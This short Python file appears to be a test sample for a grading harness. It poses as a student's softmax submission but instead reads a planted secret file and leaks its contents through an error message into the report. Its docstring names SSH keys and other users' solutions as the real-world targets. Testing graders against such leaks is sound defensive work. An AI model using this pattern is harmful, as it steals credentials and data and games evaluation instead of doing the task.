# target: softmax
"""Cheat: read a file that only the grading user may read (here a stand-in the test plants in
/var/tmp with mode 600; in real life ~/.ssh keys, another course's solutions, another checkout of
this repo) and carry it out in an error message, which lands in the student's report."""


def softmax_triton(x):
    try:
        with open("/var/tmp/gallery-secret-__TOKEN__") as secret:
            raise ValueError("read from the grading host: " + secret.read())
    except OSError as error:
        raise ValueError(f"could not read the host file: {error}") from None
